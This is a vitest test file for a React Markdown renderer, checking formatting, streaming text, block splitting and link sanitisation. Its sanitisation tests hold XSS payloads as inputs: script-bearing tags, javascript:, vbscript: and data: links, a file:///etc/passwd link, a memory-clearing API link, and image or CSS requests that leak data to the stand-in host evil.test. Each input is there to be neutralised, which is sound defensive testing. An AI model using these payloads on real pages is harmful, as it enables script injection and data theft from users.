import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { partsOf, splitBlocks } from './blocks.ts'
import { decodeEntities, plainWords, safeLink } from './links.ts'
import { parseBlock } from './parse.ts'
import { Prose } from './prose.tsx'

const html = (text: string, writing = false) => renderToStaticMarkup(<Prose text={text} writing={writing} />)

/** What a browser would act on: elements and attributes, not the words between them. */
const ALLOWED_TAG =
  /^<\/?(?:div|section|p|h[1-6]|strong|em|del|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|hr|br|wbr|a|input)\b/
const tags = (markup: string) => markup.match(/<[^>]*>/g) ?? []
const foreign = (markup: string) =>
  tags(markup).filter(
    (tag) => !ALLOWED_TAG.test(tag) || /\s(?:on\w+|srcdoc|src|srcset|action|formaction)=/i.test(tag),
  )
const addresses = (markup: string) => [...markup.matchAll(/href="([^"]*)"/g)].map(([, href]) => href)

describe('prose', () => {
  it('renders the Markdown that people and Claude write', () => {
    expect(html('# Title\n\nSome **bold**, *soft*, ~~gone~~ and `code`.')).toContain(
      '<h1 aria-level="3">Title</h1><p>Some <strong>bold</strong>, <em>soft</em>, <del>gone</del> and <code>code</code>.</p>',
    )
    expect(html('1. one\n2. two')).toContain('<ol start="1"><li>one</li><li>two</li></ol>')
    expect(html('- [x] done\n- [ ] open')).toContain('<li class="task"><input type="checkbox"')
    expect(html('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<td style="text-align:end">2</td>')
    expect(html('```ts\nconst a = 1 < 2\n```')).toContain(
      '<pre dir="ltr"><code>const a = 1 &lt; 2</code></pre>',
    )
  })

  it('breaks code at the joints of a name, and an option in one piece', () => {
    expect(html('`/memories/acme_corp.md`')).toContain('<code>/memories/<wbr/>acme_<wbr/>corp.md</code>')
    expect(html('`--no_sandbox`')).toContain('<code>--no_<wbr/>sandbox</code>')
  })

  it('shows characters as they are meant, not as references', () => {
    expect(html('R&amp;D &lt;b&gt; AT&T &copy; &#8364;')).toContain('R&amp;D &lt;b&gt; AT&amp;T © €')
  })

  it.each([
    '<img src=x onerror=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<style>@import "https://evil.test/x.css"</style>',
    '<a href="javascript:alert(1)">x</a>',
    'text <b onmouseover=alert(1)>bold</b>',
    '<details open ontoggle=alert(1)>',
    '![](https://evil.test/?d=secret)',
    '![a][r]\n\n[r]: https://evil.test/x.png',
    '<https://evil.test/\u202egnp.exe>',
  ])('makes no foreign element or attribute out of %s', (attack) => {
    for (const markup of [html(attack), html(attack, true)]) expect(foreign(markup)).toEqual([])
  })

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](&#x6A;avascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox(1))',
    '[x](file:///etc/passwd)',
    '[x](//evil.test)',
    '[x](/api/memory/clear)',
    '[x](\u0001javascript:alert(1))',
    '![x](javascript:alert(1))',
  ])('makes no link out of %s', (attack) => {
    expect(addresses(html(attack))).toEqual([])
  })

  it('links only to http, https and mailto, in a new tab that knows nothing of this one', () => {
    const markup = html('[a](https://example.com/a?b=1) and <mailto:a@example.com>')
    expect(addresses(markup)).toEqual(['https://example.com/a?b=1', 'mailto:a@example.com'])
    expect(markup).toContain('rel="noopener noreferrer nofollow"')
  })

  it('turns an image into a link instead of fetching it', () => {
    const markup = html('![a chart](https://example.com/c.png)')
    expect(markup).not.toContain('<img')
    expect(markup).toContain('>Image: a chart</a>')
  })

  it.each(['>', '*', '[', '- ', '![', '**a', '_'])('survives ten thousand nested %s', (piece) => {
    expect(foreign(html(piece.repeat(10_000)))).toEqual([])
  })

  it('never makes anything foreign out of any text, finished or half written', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '[',
      '](',
      ')',
      '!',
      '`',
      '\n',
      'javascript:',
      'onerror=',
      'img ',
      '&#',
      ';',
      'a',
    )
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string()), { maxLength: 30 }), (pieces) => {
        const text = pieces.join('')
        for (const markup of [html(text), html(text, true)]) {
          expect(foreign(markup)).toEqual([])
          for (const href of addresses(markup)) expect(href).toMatch(/^(?:https?:|mailto:)/i)
        }
      }),
    )
  })
})

describe('prose while it is written', () => {
  it('completes a half-written ending for the eye', () => {
    expect(html('This is **bol', true)).toContain('<strong>bol</strong>')
    expect(html('See [the pl', true)).not.toContain('[')
  })

  it('does not flash a heading or a rule that is not there yet', () => {
    expect(html('A line\n-', true)).toContain('<p>A line</p>')
    expect(html('A line\n=', true)).not.toContain('<h1')
  })
})

describe('blocks', () => {
  it('together are the text, whatever it is', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('a', '\n', '\n\n', '```\n', '- x\n', '1. y\n', '  z\n', '> q\n', '    c\n')),
        (pieces) => {
          const text = pieces.join('')
          expect(splitBlocks(text).join('').trim()).toBe(text.trim())
        },
      ),
    )
  })

  it('keeps every block but the last two when the text grows', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('word ', '\n\n', '\n- item', '\n```\n', '\n# T\n'), { maxLength: 40 }),
        (pieces) => {
          let before: readonly string[] = []
          let text = ''
          for (const piece of pieces) {
            text += piece
            const now = splitBlocks(text)
            expect(now.slice(0, Math.max(0, before.length - 1))).toEqual(before.slice(0, -1))
            before = now
          }
        },
      ),
    )
  })

  it('keeps a fenced block with empty lines whole', () => {
    expect(splitBlocks('a\n\n```\nx\n\ny\n```\n\nb')).toEqual(['a\n\n', '```\nx\n\ny\n```\n\n', 'b'])
  })

  it('keeps a loose list whole, and parts it from another kind', () => {
    expect(splitBlocks('- a\n\n- b\n\n  more\n\n1. c')).toEqual(['- a\n\n- b\n\n  more\n\n', '1. c'])
  })

  it('keeps a list whole that begins right below a paragraph', () => {
    expect(splitBlocks('Said:\n- a\n\n  more\n  - b\n\nEnd')).toEqual([
      'Said:\n- a\n\n  more\n  - b\n\n',
      'End',
    ])
    expect(html('Said:\n- a\n\n  more')).toMatch(/<li>.*more.*<\/li>/s)
  })
})

describe('parts', () => {
  const block = fc.constantFrom('# T\n\n', 'words\n\n', '- item\n\n', '```\n# not one\n```\n\n')

  it('hold all blocks in order, and none but the last ends with a heading', () => {
    fc.assert(
      fc.property(fc.array(block, { maxLength: 80 }), (blocks) => {
        const parts = partsOf(blocks)
        expect(parts.flatMap(({ from, to }) => blocks.slice(from, to))).toEqual(blocks)
        for (const { to } of parts.slice(0, -1)) expect(blocks[to - 1]).not.toBe('# T\n\n')
      }),
    )
  })

  it('stay as they are while blocks come at the end', () => {
    fc.assert(
      fc.property(fc.array(block, { maxLength: 80 }), (blocks) => {
        const all = partsOf(blocks)
        for (let end = 0; end < blocks.length; end++)
          expect(partsOf(blocks.slice(0, end)).slice(0, -1)).toEqual(
            all.filter(({ to }) => to < end && to < blocks.length),
          )
      }),
    )
  })

  it('are of ten blocks where no heading comes, and begin with one where one comes', () => {
    expect(partsOf(Array<string>(25).fill('words\n\n')).map(({ to }) => to)).toEqual([10, 20, 25])
    const section = ['## T\n\n', ...Array<string>(5).fill('words\n\n')]
    expect(partsOf([...section, ...section]).map(({ to }) => to)).toEqual([6, 12])
  })

  it('show what one piece would', () => {
    const text = '# T\n\nwords\n\n'.repeat(20)
    const whole = html(text).replaceAll(/<\/?div[^>]*>/g, '')
    expect(whole).toBe('<h1 aria-level="3">T</h1><p>words</p>'.repeat(20))
    expect(html(text).match(/class="part"/g)).toHaveLength(7)
  })
})

describe('links', () => {
  it('keep the address as it is', () => {
    expect(safeLink('https://example.com/ä?x=1&amp;y=2')).toBe('https://example.com/ä?x=1&y=2')
    expect(safeLink('https://')).toBeNull()
    expect(safeLink('https://exa\u200bmple.com')).toBeNull()
  })

  it('show no marks that turn the direction of reading', () => {
    expect(plainWords('https://a.test/\u202etxt.exe')).toBe('https://a.test/txt.exe')
  })

  it('decode no reference to nothing, to half a character, or beyond Unicode', () => {
    expect(decodeEntities('&#0; &#xD800; &#x110000; &nope; &constructor;')).toBe(
      '&#0; &#xD800; &#x110000; &nope; &constructor;',
    )
  })

  it('shows a block that would exhaust the parser as plain text', () => {
    expect(parseBlock('>'.repeat(5000))).toBeNull()
  })
})
